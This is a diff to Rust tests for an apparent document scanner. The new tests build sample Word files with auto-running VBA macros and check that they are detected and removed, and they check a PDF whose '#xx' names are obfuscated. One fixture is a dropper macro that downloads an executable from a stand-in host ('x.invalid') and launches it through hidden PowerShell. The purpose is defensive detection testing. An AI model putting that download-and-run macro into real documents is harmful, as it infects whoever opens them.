@@ -338,6 +338,12 @@ fn a_real_clamd_sees_the_input_and_what_lies_in_it() {
 const COMPANIONS: &[(&str, &str, &str, &str)] = &[
     ("yara", "engines/tests/rules.rs", "every_rule_hits_its_sample_and_misses_its_twin", "a_time_out_is_not_scanned"),
     (
+        "yara-x",
+        "engines/tests/yara_x.rs",
+        "yara_x_hits_and_misses_and_tells_what_the_rule_says",
+        "what_yara_x_cannot_use_is_an_error",
+    ),
+    (
         "hashes",
         "engines/src/hashes.rs",
         "a_listed_digest_is_malicious_and_its_neighbour_is_clean",
@@ -370,6 +376,53 @@ fn structure_sees_what_acts_by_itself_and_nothing_in_a_plain_document() {
     assert!(acts.matches.iter().all(|found| !found.malicious && found.text.is_some()), "{acts:?}");
     let plain = row("plain.pdf");
     assert_eq!((plain.verdict, plain.matches.len()), (model::EngineVerdict::Clean, 0), "{plain:?}");
+}
+
+/// A macro that runs by itself and starts a program: seen by `structure`, handed to the other engines, and gone.
+#[test]
+fn structure_sees_a_macro_that_runs_by_itself_in_a_document() {
+    let world = World::new();
+    let source = |body: &str| format!("Attribute VB_Name = \"Module1\"\r\n{body}\r\n");
+    let acts = source("Sub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub");
+    let drops = source(
+        "Sub AutoOpen()\r\n  URLDownloadToFile 0, \"http://x.invalid/a\", \"a.exe\", 0, 0\r\n  \
+         Shell \"powershell -w hidden a.exe\"\r\nEnd Sub",
+    );
+    let idle = source("Sub Sum()\r\n  x = 1 + 1\r\nEnd Sub");
+    for (name, source) in [("acts.docm", &acts), ("drops.docm", &drops), ("idle.docm", &idle)] {
+        world.put(name, &samples::docm_with(samples::ole::vba_project(source)));
+    }
+    let (_, lines) = world.clean(&[]);
+    let told = |name: &str| row(line(&lines, name), "structure").clone();
+    let acts = told("acts.docm");
+    assert_eq!(acts.verdict, EngineVerdict::Suspicious, "{acts:?}");
+    assert!(acts.matches.iter().all(|found| found.text.is_some()) && acts.matches.len() >= 2, "{acts:?}");
+    assert!(acts.matches.iter().any(|found| found.rule.contains("auto")), "{acts:?}");
+    let drops = told("drops.docm");
+    assert!(drops.matches.iter().any(|found| found.rule == "macro-dropper" && found.malicious), "{drops:?}");
+    assert_eq!(code(line(&lines, "drops.docm")), Some(ReasonCode::Detection));
+    let idle = told("idle.docm");
+    assert!(!idle.matches.iter().any(|found| found.rule.contains("auto")), "{idle:?}");
+    for name in ["acts.docm", "idle.docm"] {
+        let line = line(&lines, name);
+        assert_eq!(line.output.as_ref().map(|output| output.format), Some(model::Format::Docx), "{name}");
+        let gone = line.findings.iter().find(|finding| finding.id == "OOX-34").unwrap();
+        assert!(gone.construct.starts_with("container of a kind that holds macros"), "{gone:?}");
+    }
+}
+
+/// Names that are written with `#xx` hide an action from who only looks for its word.
+#[test]
+fn structure_sees_an_action_behind_a_name_that_is_written_otherwise() {
+    let world = World::new();
+    world.put("hides.pdf", &samples::pdf_obfuscated());
+    let (_, lines) = world.clean(&[]);
+    let line = line(&lines, "hides.pdf");
+    let ids: Vec<&str> = line.findings.iter().map(|finding| finding.id.as_str()).collect();
+    assert!(ids.contains(&"PDF-07") && ids.contains(&"PDF-21"), "{ids:?}");
+    assert!(row(line, "structure").matches.len() >= 2, "{:?}", row(line, "structure"));
+    assert_eq!(line.verdict, Outcome::Released);
+    assert!(world.released().iter().all(|(_, bytes)| !bytes.windows(6).any(|w| w == b"#61vaS")));
 }
 
 /// A new engine brings its companions: a page, a test that it hits and misses, and one of its failures.
